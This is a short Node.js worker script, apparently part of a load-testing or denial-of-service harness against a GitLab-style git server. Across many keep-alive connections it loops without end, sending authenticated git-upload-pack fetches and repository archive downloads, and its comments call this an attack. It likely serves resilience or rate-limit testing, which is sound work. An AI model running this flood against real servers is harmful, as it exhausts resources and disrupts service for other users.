/** One caller with two hundred connections, in a process with low priority, see attacker.mjs. */
import { once } from 'node:events';
import { Agent, request } from 'node:http';
import { setPriority } from 'node:os';

setPriority(10);
process.once('disconnect', () => process.exit(1));
const [{ url, token, project, commit, connections }] = await once(process, 'message');
const agent = new Agent({ keepAlive: true, maxSockets: connections });
const credential = `Basic ${Buffer.from(`mallory:${token}`).toString('base64')}`;
const git = `/${project.path_with_namespace}.git`;
const archive = `/api/v4/projects/${project.id}/repository/archive`;
const packet = (text) => `${(text.length + 4).toString(16).padStart(4, '0')}${text}`;

const requests = [
  () => ask('GET', `${git}/info/refs?service=git-upload-pack`),
  () => ask('POST', `${git}/git-upload-pack`, `${packet(`want ${commit}\n`)}0000${packet('done\n')}`),
  (turn) => ask('GET', `${archive}.${['zip', 'tar.gz', 'tar.bz2'][turn % 3]}?sha=${commit}`),
];

function ask(method, path, body) {
  return new Promise((resolve) => {
    const headers = {
      authorization: credential,
      ...(body && { 'content-type': 'application/x-git-upload-pack-request' }),
    };
    const asked = request(new URL(path, url), { method, headers, agent }, (answer) => {
      answer.resume();
      answer.once('close', resolve);
    });
    // The server may refuse an attack or close its connection; the next request follows.
    asked.once('error', resolve);
    asked.end(body);
  });
}

let turn = 0;
async function again() {
  for (;;) {
    turn += 1;
    await requests[turn % requests.length](turn);
  }
}
await Promise.all(Array.from({ length: connections }, again));
